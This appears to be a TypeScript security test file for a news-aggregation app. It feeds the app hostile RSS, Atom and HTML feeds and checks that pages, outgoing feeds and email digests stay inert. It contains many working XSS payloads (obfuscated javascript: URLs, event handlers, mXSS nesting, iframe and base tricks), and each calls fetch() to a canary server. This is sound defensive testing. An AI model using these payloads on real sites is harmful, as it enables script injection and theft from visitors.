// Hostile content end to end. Feeds served on 127.0.0.1 and crawled through the real pipeline
// (fetch → parse → enrich/extract → sanitize → analyze → store) carry script, event handlers,
// javascript:/data: URLs (plain and obfuscated), iframes, objects, style and overlay tricks,
// meta refresh, base, forms, attribute-breaking quotes, CDATA tricks and bidi/zero-width
// characters in titles, summaries, bodies, links, authors, categories and source names. Then
// every surface that shows them is checked: the web pages in a real chromium (with the CSP on,
// and with it bypassed, so the escaping itself is what is tested), the Atom/RSS/JSON feeds out,
// and a digest sent to a real SMTP server. Each payload, if it ever ran, would set
// window.__pwned, open a dialog or fetch a canary server that counts every request.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { serve, type ServerType } from '@hono/node-server';
import * as cheerio from 'cheerio';
import { chromium, type Browser, type Page } from 'playwright-core';
import { createApp } from '../src/http/app.js';
import { contentSecurityPolicy } from '../src/http/pages/render.js';
import { renderAtom, renderRss } from '../src/http/feeds-out.js';
import { signalPageSchema, signalSchema } from '../src/http/schemas.js';
import { crawlSources } from '../src/pipeline/crawl-run.js';
import { getSource, upsertSources } from '../src/store/sources.js';
import { confirmSubscription, requestSubscription } from '../src/store/subscriptions.js';
import { manageLink, unsubscribeLink } from '../src/digest/links.js';
import { runDigests } from '../src/digest/send-run.js';
import { smtpMailer } from '../src/digest/mailer.js';
import { parseFeed } from '../src/parse/feed.js';
import type { SignalOut } from '../src/domain/types.js';
import type { PipelineContext } from '../src/pipeline/context.js';
import { testContext } from './helpers/db.js';
import { startFixtureServer, type FixtureServer } from './helpers/fixture-server.js';
import { startSmtp, type TestSmtp } from './helpers/smtp.js';

const chromiumPath = '/usr/bin/chromium';
const hasBrowser = existsSync(chromiumPath);
const noBrowser = hasBrowser ? false : `no browser at ${chromiumPath}: install Debian's chromium (apt-get install chromium; .ci/run does this)`;
const token = 'hostile-admin-token-0123456789';
const baseUrl = 'https://radar.example.org';

let canary: FixtureServer;
let feeds: FixtureServer;
let smtp: TestSmtp;
let ctx: PipelineContext;
let server: ServerType;
let base: string;
let browser: Browser | undefined;
let signals: SignalOut[] = [];
/** The digest's HTML part, kept by the email test for the browser test after it. */
let digestHtml = '';

// ---------------------------------------------------------------------------------------------
// Payloads. `loud(n)` is what a body payload runs if it ever becomes active: it marks the
// window, opens a dialog and asks the canary server for /js/n. Titles carry the short `js(n)`
// (the window mark alone) so that their shared words do not make every story one event.

const js = (n: number) => `top.__pwned=${n}`;
const loud = (n: number) => `top.__pwned=${n};alert(${n});fetch('${canary.url}/js/${n}')`;

/** HTML as a hostile publisher writes it, for summaries, content:encoded bodies and article pages. */
function bodyPayloads(): string[] {
  const C = canary.url;
  return [
    `<script>${loud(1)}</script><SCRIPT SRC="${C}/pwn.js"></SCRIPT><script src=${C}/pwn2.js></script>`,
    `<img src=x onerror="${loud(2)}"><img src="x" alt="a"onerror="${loud(3)}"><IMG """><SCRIPT>${loud(4)}</SCRIPT>">`,
    `<svg onload="${loud(5)}"><script>${loud(6)}</script></svg><svg><a xlink:href="javascript:${loud(7)}"><text>pwn</text></a></svg>`,
    `<iframe src="javascript:${loud(8)}"></iframe><iframe srcdoc="<script>parent.${loud(9)}</script>"></iframe><iframe src="${C}/pwn-iframe"></iframe>`,
    `<object data="${C}/pwn-object"></object><embed src="${C}/pwn-embed"><applet code="pwn.class"></applet>`,
    `<a href="javascript:${loud(10)}">plain pwn</a> <a href="JaVaScRiPt:${loud(11)}">case pwn</a> <a href="java&#x09;script:${loud(12)}">tab pwn</a>`,
    `<a href="  &#x01;&#x20;javascript:${loud(13)}">control pwn</a> <a href="&#106;&#97;vascript&colon;${loud(14)}">entity pwn</a> <a href="java\nscript:${loud(15)}">newline pwn</a>`,
    `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data pwn</a> <img src="data:image/svg+xml,<svg onload=${loud(16)}>"> <a href="vbscript:msgbox(17)">vb pwn</a>`,
    `<style>@import url('${C}/pwn-import.css'); body { background: url('${C}/pwn-bg') }</style><link rel="stylesheet" href="${C}/pwn-link.css">`,
    `<div style="position:fixed;inset:0;z-index:99999;background:red;--pwn:1">overlay pwn</div><p style="width:expression(${loud(18)})">expression pwn</p>`,
    `<meta http-equiv="refresh" content="0;url=${C}/pwn-refresh"><base href="${C}/pwn-base/"><a href="relative">relative pwn</a>`,
    `<form action="${C}/pwn-form"><input name="pw" autofocus onfocus="${loud(19)}"><button formaction="${C}/pwn-formaction">Go pwn</button></form>`,
    `"><script>${loud(20)}</script><p title="a" '><img src=x onerror=${loud(21)}>`,
    `<noscript><p title="</noscript><img src=x onerror=${loud(22)}>"></noscript><math><mtext><table><mglyph><style><img src=x onerror=${loud(23)}>`,
    `<details open ontoggle="${loud(24)}">pwn</details><video><source onerror="${loud(25)}"></video><body onload="${loud(26)}"><marquee onstart="${loud(27)}">pwn</marquee>`,
    `<template><script>${loud(28)}</script></template><!--<img src=x onerror=${loud(29)}>--><scr<script>ipt>${loud(30)}</script>`,
  ];
}

/** What the titles carry: markup a reader must see as text, never as HTML. */
function titlePayloads(): string[] {
  return [
    `<script>${loud(101)}</script>`,
    `<img src=x onerror="${loud(102)}">`,
    `"><script>${js(103)}</script>`,
    `'><svg onload=${js(104)}>`,
    `</title><script>${js(105)}</script>`,
    `javascript:${js(106)}`,
    `<a href="javascript:${js(107)}">pwn</a>`,
    `<iframe src="${canary.url}/pwn-title"></iframe>`,
    '\u202Eevil.exe\u202C and an unterminated \u202Eoverride',
    'zero\u200Bwidth\u200D join\u2066isolate\uFEFF',
    `&lt;b&gt;double-encoded&lt;/b&gt; &amp;lt;script&amp;gt;`,
    `<style>@import '${canary.url}/pwn-title.css'</style>`,
  ];
}

const topics = [
  'Italy fines OpenAI over ChatGPT data', 'US adds Huawei to entity list', 'EU AI Act enters into force', 'Samsung bans staff from using ChatGPT',
  'Japan tightens chip equipment export controls', 'FTC sues Amazon over Prime cancellations', 'Canada bans TikTok on government devices',
  'Australia bans DeepSeek on government devices', 'Netherlands fines Uber over driver data', 'Court rules Google monopolised search',
  'China bars Micron from critical infrastructure', 'European Commission opens DMA probe into Apple', 'India bans 59 Chinese apps',
  'Ireland fines Meta over data transfers', 'UK CMA blocks Microsoft Activision deal', 'South Korea fines Google over app store',
];

const hoursAgo = (h: number) => new Date(Date.now() - h * 3_600_000);
const xmlText = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
const cdata = (s: string) => `<![CDATA[${s.replace(/]]>/g, ']]]]><![CDATA[>')}]]>`;
/** Text about the topic and nothing else, so each story is its own event to the clustering. */
const lede = (topic: string) => `${topic}. `;
const filler = (topic: string, n: number) => Array.from({ length: n }, (_, i) => `${topic} (${i + 1}).`).join(' ');

/** An RSS 2.0 feed with the hostile items, written by hand so every trick is exactly as meant. */
function hostileRss(): string {
  const F = feeds.url;
  const bodies = bodyPayloads();
  const titles = titlePayloads();
  const items: string[] = [];
  titles.forEach((t, i) => {
    const topic = topics[i]!;
    const title = i % 3 === 0 ? `<title>${cdata(`${t} ${topic}`)}</title>` : `<title>${xmlText(`${topic} ${t}`)}</title>`;
    const body = bodies[i % bodies.length]!;
    items.push(`<item>${title}<link>${F}/a/${i}</link><guid isPermaLink="false">h${i}</guid><pubDate>${hoursAgo(1 + i * 0.5).toUTCString()}</pubDate>
<dc:creator>${cdata(`<script>${js(200 + i)}</script> Reporter "><img src=x onerror=${js(220 + i)}>`)}</dc:creator>
<category>${cdata(`<img src=x onerror=${js(240 + i)}>`)}</category>
<description>${xmlText(`<p>${lede(topic)}</p>${body}`)}</description>
<content:encoded>${cdata(`<p>${lede(topic)}${filler(topic, 16)}</p>${body}${bodies[(i + 5) % bodies.length]}`)}</content:encoded></item>`);
  });
  // CDATA split around live markup; text nodes and CDATA mixed in one element.
  items.push(`<item><title>${xmlText(topics[12]!)}</title><link>${F}/a/12</link><guid isPermaLink="false">h12</guid><pubDate>${hoursAgo(8).toUTCString()}</pubDate>
<content:encoded><![CDATA[<p>${lede(topics[12]!)}</p>]]>&lt;script&gt;${xmlText(js(120))}&lt;/script&gt;<![CDATA[<img src=x onerror="${js(121)}">]]></content:encoded></item>`);
  // A link whose query string tries to break out of an attribute.
  items.push(`<item><title>${xmlText(topics[13]!)}</title><link>${xmlText(`${F}/a/13?x="><script>${js(130)}</script>&y='><img src=x onerror=${js(131)}>`)}</link><guid isPermaLink="false">h13</guid><pubDate>${hoursAgo(8.5).toUTCString()}</pubDate>
<description>${xmlText(`<p>${lede(topics[13]!)}</p>`)}</description></item>`);
  // Links that are no web addresses: such an item cannot be a story and must not appear at all.
  for (const [n, link] of [[14, `javascript:${js(140)}`], [15, 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='], [16, ` JaVaScRiPt:${js(160)}`]] as const) {
    items.push(`<item><title>${xmlText(`${topics[n % topics.length]} unlinkable ${n}`)}</title><link>${xmlText(link)}</link><pubDate>${hoursAgo(9).toUTCString()}</pubDate><description>x</description></item>`);
  }
  return `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel>
<title>${xmlText(`<script>${loud(300)}</script>`)}</title><link>${F}/</link><description>hostile</description>
${items.join('\n')}
</channel></rss>`;
}

/** An Atom feed: typed titles (html, xhtml), typed content, a hostile author. */
function hostileAtom(): string {
  const F = feeds.url;
  const [b0, b1] = [bodyPayloads()[1]!, bodyPayloads()[5]!];
  return `<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>Atom desk</title><id>${F}/atom</id><updated>${hoursAgo(0).toISOString()}</updated>
<entry><title type="html">${xmlText(`&lt;script&gt;${js(400)}&lt;/script&gt;UK regulator fines Clearview AI over facial images <img src=x onerror=${js(401)}>`)}</title>
<link href="${F}/a/40"/><id>urn:atom:40</id><updated>${hoursAgo(2).toISOString()}</updated><author><name>${xmlText(`<script>${loud(402)}</script>`)}</name></author>
<content type="html">${xmlText(`<p>${filler('The Information Commissioner fined Clearview AI over facial images', 12)}</p>${b0}`)}</content></entry>
<entry><title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">Brazil suspends Meta AI training <script>${xmlText(js(410))}</script><b onclick="${xmlText(js(411))}">pwn</b></div></title>
<link href="${F}/a/41"/><id>urn:atom:41</id><updated>${hoursAgo(2.5).toISOString()}</updated>
<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>${xmlText(lede('Brazil\u2019s data authority suspended Meta AI training'))}</p><script>${xmlText(loud(412))}</script><a href="javascript:${xmlText(loud(413))}">pwn</a><img src="x" onerror="${xmlText(loud(414))}"/></div></content>
<summary type="html">${xmlText(b1)}</summary></entry>
</feed>`;
}

/** A press room without a feed: hostile link text and hrefs, and article pages behind them. */
function hostileList(): string {
  const when = hoursAgo(3).toISOString();
  const li = (href: string, inner: string) => `<li class="item"><a href="${href}">${inner}</a><time datetime="${when}">today</time></li>`;
  return `<!doctype html><html><head><base href="${canary.url}/pwn-list-base/"><script>${loud(500)}</script></head><body><ul>
${li('/a/50', `Germany fines Volkswagen over software <img src=x onerror="${js(501)}">`)}
${li('/a/51', `&lt;script&gt;${js(502)}&lt;/script&gt; France orders X to remove content`)}
${li(`javascript:${js(503)}`, 'Spain bans Worldcoin iris scans')}
${li(`  java&#x09;script:${js(504)}`, 'Poland opens probe into ChatGPT')}
${li('data:text/html,<script>alert(505)</script>', 'Sweden restricts Huawei gear')}
</ul></body></html>`;
}

/** An article page as a hostile site serves it: the pipeline extracts and sanitizes its body. */
function hostileArticle(n: number, topic: string): string {
  const bodies = bodyPayloads();
  const paras = Array.from({ length: 6 }, (_, i) => `<p>${filler(topic, 3)} ${bodies[(n + i) % bodies.length]}</p>`).join('\n');
  return `<!doctype html><html><head><title>${xmlText(topic)}</title><meta http-equiv="refresh" content="0;url=${canary.url}/pwn-article-refresh">
<base href="${canary.url}/pwn-article-base/"><script>${loud(600 + n)}</script><style>@import '${canary.url}/pwn-article.css';</style></head>
<body onload="${loud(650 + n)}"><header><nav><a href="/">Home</a></nav></header><article><h1>${xmlText(topic)}</h1>${paras}</article>
<iframe src="${canary.url}/pwn-article-iframe"></iframe></body></html>`;
}

// ---------------------------------------------------------------------------------------------

const hostileSourceName = 'Wire "><script>top.__pwned=700</script><img src=x onerror=top.__pwned=701> \u202Eevil';

before(async () => {
  canary = await startFixtureServer();
  feeds = await startFixtureServer();
  feeds.route('/hostile.xml', hostileRss());
  feeds.route('/hostile.atom', hostileAtom(), 'application/atom+xml; charset=utf-8');
  feeds.route('/list.html', hostileList(), 'text/html; charset=utf-8');
  for (let n = 0; n < 60; n++) feeds.route(`/a/${n}`, hostileArticle(n, topics[n % topics.length]!), 'text/html; charset=utf-8');
  smtp = await startSmtp();
  ctx = testContext();
  upsertSources(ctx.db, [
    { id: 'hostile-rss', name: hostileSourceName, kind: 'rss', url: `${feeds.url}/hostile.xml?x="><script>top.__pwned=702</script>`, every: '1h', tier: 2, tags: ['<script>top.__pwned=703</script>'] },
    { id: 'hostile-atom', name: `<img src=x onerror=top.__pwned=710>Atom desk`, kind: 'rss', url: `${feeds.url}/hostile.atom`, every: '1h', tier: 1, tags: [] },
    { id: 'hostile-html', name: `'><svg onload=top.__pwned=720>Press room`, kind: 'html', url: `${feeds.url}/list.html`, every: '1h', tier: 2, tags: [], list: { item: 'li.item', date: 'time', date_attr: 'datetime' }, article: { body: 'article' } },
    // A source that fails, so its error shows on /sources.
    { id: 'hostile-down', name: '<iframe src="javascript:top.__pwned=730"></iframe>Down', kind: 'rss', url: `${feeds.url}/missing.xml?<script>top.__pwned=731</script>`, every: '1h', tier: 2, tags: [] },
  ]);
  const run = await crawlSources(ctx, ['hostile-rss', 'hostile-atom', 'hostile-html', 'hostile-down'].map((id) => getSource(ctx.db, id)!));
  const added = Object.fromEntries(run.outcomes.map((o) => [o.sourceId, o.status === 'ok' ? o.added : o.status]));
  // Every linkable item landed; the six whose link is javascript: or data: could not be stories.
  assert.deepEqual(added, { 'hostile-rss': 14, 'hostile-atom': 2, 'hostile-html': 2, 'hostile-down': 'error' }, JSON.stringify(run.outcomes));
  const app = createApp({ db: ctx.db, knowledge: ctx.knowledge, baseUrl, adminToken: token, rateLimitPerMinute: 0, smtpUrl: smtp.url, log: () => {} });
  server = await new Promise((resolve) => { const s = serve({ fetch: app.fetch, port: 0, hostname: '127.0.0.1' }, () => resolve(s)); });
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  const page = signalPageSchema.parse(await (await fetch(`${base}/api/v1/signals?limit=100`)).json());
  signals = page.items;
  if (hasBrowser) browser = await chromium.launch({ executablePath: chromiumPath, args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run'] });
});

after(async () => {
  await browser?.close();
  await new Promise<void>((r) => (server ? server.close(() => r()) : r()));
  await feeds?.close();
  await canary?.close();
  await smtp?.close();
});

const canaryHits = () => [...canary.hits].map(([p, n]) => `${p}×${n}`);
const stories = () => signals.flatMap((s) => s.stories);

test('the hostile stories went through the real pipeline, with the text of their titles kept as text', () => {
  assert.ok(signals.length >= 15, `${signals.length} signals: the stories are separate events, so each title is a headline somewhere`);
  const titles = stories().map((s) => s.title);
  // Markup in a title is what the title says: kept verbatim, for the views to escape.
  for (const t of titlePayloads()) assert.ok(titles.some((x) => x.includes(t.replace(/\s+/g, ' ').trim())), `a title holds ${JSON.stringify(t)}`);
  // On an HTML list page the title is the link's text: real markup in it is markup (dropped),
  // escaped markup is text (kept).
  assert.ok(titles.includes('Germany fines Volkswagen over software'), titles.join(' | '));
  assert.ok(titles.includes(`<script>${js(502)}</script> France orders X to remove content`), titles.join(' | '));
  // Only web links become stories.
  for (const st of stories()) assert.match(st.url, /^https?:\/\//, st.url);
  assert.ok(!titles.some((t) => /unlinkable|Spain bans Worldcoin|Poland opens probe|Sweden restricts Huawei/.test(t)), 'items linking to javascript: or data: were dropped');
  // Summaries come from text, not markup: no tag of a body survives into them.
  for (const s of signals) assert.doesNotMatch(s.summary, /<(script|img|svg|iframe|object|embed|style|meta|base|form|a|p|div)\b|onerror=|onload=/i, `summary of ${s.id}: ${s.summary}`);
  assert.deepEqual(canaryHits(), [], 'the pipeline itself fetched nothing a payload named');
});

test('stored article HTML is sanitized: no script, handler, foreign frame or non-web URL survives', () => {
  const rows = ctx.db.prepare("SELECT content_html FROM stories WHERE content_html != ''").all() as { content_html: string }[];
  assert.ok(rows.length >= 15, `${rows.length} stories with HTML`);
  for (const { content_html: html } of rows) assertInertHtml(html, 'stored content_html');
});

/** Allow-list audit of an HTML fragment: only harmless tags, no handlers, only web links. */
function assertInertHtml(html: string, where: string, allowed = /^(p|br|a|ul|ol|li|blockquote|strong|em|b|i|h[2-6]|figure|figcaption|img|table|thead|tbody|tfoot|tr|th|td|caption|pre|code)$/): void {
  const $ = cheerio.load(html, null, false);
  $('*').each((_, el) => {
    if (el.type !== 'tag') return;
    assert.match(el.name, allowed, `${where}: <${el.name}> in ${html.slice(0, 300)}`);
    for (const [name, value] of Object.entries(el.attribs)) {
      assert.doesNotMatch(name, /^on|^style$|^srcdoc$|^formaction$|^xlink:href$/i, `${where}: ${el.name}[${name}]`);
      if (/^(href|src|action|data|poster|background|cite)$/i.test(name)) assert.match(value, /^(https?:\/\/|mailto:)/i, `${where}: ${el.name}[${name}=${value}]`);
    }
  });
}

test('the JSON API returns the stored titles, and answers a hostile search with JSON', async () => {
  for (const s of signals.slice(0, 5)) {
    const one = signalSchema.parse(await (await fetch(`${base}/api/v1/signals/${s.id}`)).json());
    assert.equal(one.headline, s.headline);
  }
  const res = await fetch(`${base}/api/v1/signals?q=${encodeURIComponent(`"><script>${loud(800)}</script>`)}`);
  assert.ok(res.status < 500);
  assert.match(res.headers.get('content-type') ?? '', /^application\/json/);
});

// ---------------------------------------------------------------------------------------------
// Feeds out.

/** Strict XML well-formedness, by the browser's XML parser (a parse error is a <parsererror>). */
async function xmlProblems(page: Page, xml: string): Promise<string | null> {
  return page.evaluate((doc) => {
    const d = new DOMParser().parseFromString(doc, 'application/xml');
    const err = d.getElementsByTagName('parsererror')[0];
    return err ? err.textContent : null;
  }, xml);
}

const feedQueries = () => ['', `?q=${encodeURIComponent('fines')}`, `?q=${encodeURIComponent(`"><script>${loud(900)}</script> fines`)}`, `?entity=${encodeURIComponent(`<img src=x onerror=${loud(901)}>`)}`];

test('Atom and RSS out: well-formed, titles are escaped plain text, content HTML is inert', async () => {
  for (const query of feedQueries()) {
    const atom = await fetch(`${base}/feed.atom${query}`);
    assert.equal(atom.status, 200, `${query}: ${atom.status}`);
    const atomXml = await atom.text();
    const rssXml = await (await fetch(`${base}/feed.rss${query}`)).text();
    // Parsed back by the project's own reader, as any feed reader would.
    const parsedAtom = await parseFeed(atomXml, baseUrl);
    const parsedRss = await parseFeed(rssXml, baseUrl);
    assert.equal(parsedAtom.items.length, parsedRss.items.length);
    if (query === '') assert.equal(parsedAtom.items.length, Math.min(50, signals.length));
    const $a = cheerio.load(atomXml, { xml: true });
    $a('entry').each((_, e) => {
      const id = Number(/\/signals\/(\d+)$/.exec($a(e).children('id').text())?.[1]);
      const s = signals.find((x) => x.id === id);
      assert.ok(s, `entry for signal ${id}`);
      assert.equal($a(e).children('title').text(), s.headline, 'the Atom title is the headline as text (escaped once, not stripped)');
      assert.equal($a(e).children('title').attr('type') ?? 'text', 'text');
      assert.equal($a(e).children('summary').text(), s.summary);
      assert.equal($a(e).find('author > name').text(), s.stories[0]!.outlet, 'the outlet (a hostile source name) as text');
      assertInertHtml($a(e).children('content').text(), `atom content of ${id}`, /^(p|ul|li|a)$/);
    });
    const $r = cheerio.load(rssXml, { xml: true });
    $r('item').each((_, e) => {
      const id = Number(/\/signals\/(\d+)$/.exec($r(e).children('link').text())?.[1]);
      const s = signals.find((x) => x.id === id);
      assert.ok(s, `item for signal ${id}`);
      assert.equal($r(e).children('title').text(), s.headline);
      assertInertHtml($r(e).children('description').text(), `rss description of ${id}`, /^(p|ul|li|a)$/);
    });
    // No element outside the formats' own vocabulary: content never became markup of the feed.
    const names = (x: cheerio.CheerioAPI) => [...new Set(x('*').map((_, e) => (e as { name: string }).name).get())];
    assert.deepEqual(names($a).filter((n) => !/^(feed|id|title|updated|link|generator|entry|published|author|name|category|summary|content)$/.test(n)), []);
    assert.deepEqual(names($r).filter((n) => !/^(rss|channel|title|link|description|atom:link|lastBuildDate|item|guid|pubDate|category)$/.test(n)), []);
  }
});

test('feeds out link a story only when its address is a web address', async () => {
  // Ingest refuses other schemes, so this takes a stored signal and gives it one directly.
  const s = signals[0]!;
  const tampered: SignalOut = { ...s, stories: [{ ...s.stories[0]!, url: `javascript:${loud(950)}` }, ...s.stories.slice(1)] };
  const f = { base: baseUrl, selfUrl: `${baseUrl}/feed.atom`, title: 'Policy Radar' };
  for (const xml of [renderAtom([tampered], f), renderRss([tampered], f)]) {
    const $ = cheerio.load(xml, { xml: true });
    const html = $('content').text() || $('description').text();
    assertInertHtml(html, 'feed content with a javascript: story URL', /^(p|ul|li|a)$/);
    assert.ok(cheerio.load(html)('li').first().text().startsWith(s.stories[0]!.title), 'the title stays, as text');
  }
});

test('JSON Feed out: titles and text are plain strings, no HTML field, only web links', async () => {
  for (const query of feedQueries()) {
    const res = await fetch(`${base}/feed.json${query}`);
    assert.equal(res.status, 200);
    const feed = await res.json() as { title: string; items: Record<string, unknown>[] };
    for (const item of feed.items) {
      const s = signals.find((x) => `${baseUrl}/signals/${x.id}` === item.id);
      assert.ok(s);
      assert.equal(item.title, s.headline);
      assert.equal(item.summary, s.summary);
      assert.equal(item.content_html, undefined, 'no HTML content: readers get content_text');
      assert.deepEqual(item.authors, [{ name: s.stories[0]!.outlet }]);
      for (const k of ['url', 'id']) assert.match(String(item[k]), /^https:\/\/radar\.example\.org\/signals\/\d+$/);
      for (const st of (item._policy_radar as { stories: { url: string }[] }).stories) assert.match(st.url, /^https?:\/\//);
    }
  }
});

test('feeds out are well-formed XML to a strict parser, and their HTML runs nothing when rendered', { skip: noBrowser }, async () => {
  const context = await browser!.newContext({ bypassCSP: true });
  const page = await context.newPage();
  const trap = watch(page);
  await page.goto(`${base}/healthz`);
  for (const query of feedQueries()) {
    for (const path of ['/feed.atom', '/feed.rss']) {
      const xml = await (await fetch(`${base}${path}${query}`)).text();
      assert.equal(await xmlProblems(page, xml), null, `${path}${query} is well-formed`);
    }
  }
  // Every entry's HTML content, rendered in a live page: nothing may run or load.
  const atom = cheerio.load(await (await fetch(`${base}/feed.atom`)).text(), { xml: true });
  const html = atom('entry > content').map((_, e) => atom(e).text()).get().join('\n');
  await page.setContent(`<!doctype html><html><body>${html}</body></html>`);
  await settle(page);
  await trap.assertClean('feed content rendered');
  await context.close();
});

// ---------------------------------------------------------------------------------------------
// Email.

test('a digest of the hostile signals: the HTML part is inert and shows titles as text; the text part has no markup from bodies', async () => {
  const now = new Date();
  const sub = requestSubscription(ctx.db, 'reader@example.org', { cadence: 'daily', filters: '{}', send_hour: 7, timezone: 'UTC' }, 'n1', new Date(now.getTime() + 86_400_000).toISOString(), new Date(now.getTime() - 60_000).toISOString())!;
  assert.ok(confirmSubscription(ctx.db, sub.id, 'n1', new Date(now.getTime() - 60_000).toISOString()));
  const mailer = smtpMailer(smtp.url, { pool: true });
  try {
    const summary = await runDigests({ db: ctx.db, baseUrl, mailFrom: 'Policy Radar <radar@example.org>', mailer, now: () => now, retryDelaysMs: [10] });
    assert.equal(summary.sent, 1, JSON.stringify(summary));
  } finally {
    mailer.close();
  }
  const mail = smtp.messages.find((m) => m.to.includes('reader@example.org'));
  assert.ok(mail);
  const html = String(mail.parsed.html);
  const text = mail.parsed.text ?? '';
  digestHtml = html;

  const $ = cheerio.load(html);
  $('*').each((_, el) => {
    if (el.type !== 'tag') return;
    assert.match(el.name, /^(html|head|meta|title|style|body|div|table|tbody|tr|td|a)$/, `<${el.name}> in the digest`);
    for (const [name, value] of Object.entries(el.attribs)) {
      assert.doesNotMatch(name, /^on|^srcdoc$|^formaction$|^http-equiv$/i, `${el.name}[${name}]`);
      if (name === 'href') assert.ok(value.startsWith(`${baseUrl}/`), `link ${value}`);
      if (name === 'style') assert.doesNotMatch(value, /pwn|url\(|expression|@import|javascript/i);
    }
  });
  assert.doesNotMatch($('style').text(), /pwn|@import|expression|javascript|url\(/i, 'the one <style> is the app\'s own');
  // Headlines are shown as text: each link's text is its signal's headline exactly.
  const shown = $('a').map((_, a) => $(a).text()).get();
  const hostileHeadlines = signals.filter((s) => /<|"|'/.test(s.headline));
  assert.ok(hostileHeadlines.length >= 5);
  for (const s of hostileHeadlines) assert.ok(shown.includes(s.headline.replace(/\s+/g, ' ').trim()), `headline as text: ${s.headline}`);

  // The text part: headlines verbatim (a title is text), but nothing of a body's markup.
  for (const s of hostileHeadlines) assert.ok(text.includes(s.headline.replace(/\s+/g, ' ').trim()), `text part has ${s.headline}`);
  const headlineLines = new Set(signals.map((s) => `* ${s.headline.replace(/\s+/g, ' ').trim()}`));
  const rest = text.split('\n').filter((l) => !headlineLines.has(l.trimEnd()) && !l.includes('Likely next:'));
  for (const l of rest) assert.doesNotMatch(l, /<\/?(script|img|svg|iframe|object|embed|style|meta|base|form|a|p|div|b)\b|on(error|load|focus)=/i, `body markup in the text part: ${l}`);
});

test('the digest HTML, opened in a browser, runs nothing and loads nothing', { skip: noBrowser }, async () => {
  assert.ok(digestHtml, 'the digest test ran first');
  const context = await browser!.newContext({ bypassCSP: true, javaScriptEnabled: true });
  const page = await context.newPage();
  const trap = watch(page);
  await page.setContent(digestHtml);
  await settle(page);
  await trap.assertClean('digest HTML');
  assert.deepEqual(await auditDom(page), []);
  await context.close();
});

// ---------------------------------------------------------------------------------------------
// Web pages in a real browser.

interface Trap { dialogs: string[]; requests: string[]; csp: string[]; assertClean(where: string): Promise<void> }

/** Watches a page for anything a payload would do: dialogs, foreign requests, CSP refusals. */
function watch(page: Page): Trap {
  const t: Trap = {
    dialogs: [], requests: [], csp: [],
    assertClean: async (where) => {
      assert.deepEqual(t.dialogs, [], `${where}: a dialog opened`);
      assert.deepEqual(t.requests, [], `${where}: requests left the page's origin`);
      assert.deepEqual(canaryHits(), [], `${where}: the canary was reached`);
      assert.equal(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned), undefined, `${where}: window.__pwned was set`);
      assert.deepEqual(t.csp, [], `${where}: content tried something the CSP had to refuse`);
    },
  };
  page.on('dialog', (d) => { t.dialogs.push(d.message()); void d.dismiss(); });
  page.on('request', (r) => {
    const u = r.url();
    if (!u.startsWith(base) && !u.startsWith('about:') && !u.startsWith('data:application/octet-stream')) t.requests.push(u);
  });
  page.on('console', (m) => { if (/Content Security Policy|Refused to/i.test(m.text())) t.csp.push(m.text()); });
  return t;
}

/** Gives handlers, timers, images and refreshes a moment to fire, if any were live. */
async function settle(page: Page): Promise<void> {
  await page.waitForLoadState('load');
  await page.evaluate(() => new Promise((r) => setTimeout(r, 50)));
}

/**
 * What in the DOM did not come from the app: script other than our own file, handlers,
 * non-web URLs, frames, objects, base, meta refresh, forms posting elsewhere, foreign
 * stylesheets, style text or attributes carrying a payload's marker.
 */
function auditDom(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const bad: string[] = [];
    const urlAttrs = ['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'poster', 'background', 'srcset', 'ping', 'cite', 'codebase'];
    for (const el of Array.from(document.querySelectorAll('*'))) {
      const tag = el.localName;
      const show = el.outerHTML.slice(0, 120);
      if (['iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'base', 'portal', 'math', 'template', 'noscript', 'video', 'audio', 'source', 'marquee', 'details'].includes(tag)) bad.push(`<${tag}>: ${show}`);
      if (tag === 'script') {
        const src = (el as HTMLScriptElement).src;
        if (!src || !/^\/static\/app\.[0-9a-f]+\.js$/.test(new URL(src).pathname) || new URL(src).origin !== location.origin || el.textContent!.trim()) bad.push(`script: ${show}`);
      }
      if (tag === 'meta' && el.getAttribute('http-equiv')) bad.push(`meta http-equiv: ${show}`);
      if (tag === 'link' && new URL((el as HTMLLinkElement).href, location.href).origin !== location.origin) bad.push(`foreign link: ${show}`);
      if (tag === 'form' && new URL((el as HTMLFormElement).action, location.href).origin !== location.origin) bad.push(`form posting elsewhere: ${show}`);
      if (tag === 'img' && new URL((el as HTMLImageElement).src, location.href).origin !== location.origin) bad.push(`foreign image: ${show}`);
      if (tag === 'style' && /pwn|@import|expression|javascript/i.test(el.textContent ?? '')) bad.push(`style from content: ${show}`);
      for (const a of Array.from(el.attributes)) {
        if (/^on/i.test(a.name)) bad.push(`handler ${tag}[${a.name}]: ${show}`);
        if (a.name === 'style' && /pwn|position\s*:\s*fixed|expression|url\(/i.test(a.value)) bad.push(`style attribute from content: ${show}`);
        if (a.name === 'srcdoc') bad.push(`srcdoc: ${show}`);
        if (urlAttrs.includes(a.name)) {
          let protocol = 'unparsable:';
          try { protocol = new URL(a.value, location.href).protocol; } catch { /* counted below */ }
          if (!['http:', 'https:', 'mailto:'].includes(protocol)) bad.push(`${tag}[${a.name}] is ${protocol} ${a.value.slice(0, 80)}`);
        }
      }
    }
    return bad;
  });
}

/** The pages to look at: every signal, the first parties of each, the lists, and reflected input. */
function pagePaths(): string[] {
  const slugs = [...new Set(signals.flatMap((s) => s.entities.slice(0, 2).map((e) => e.slug)))];
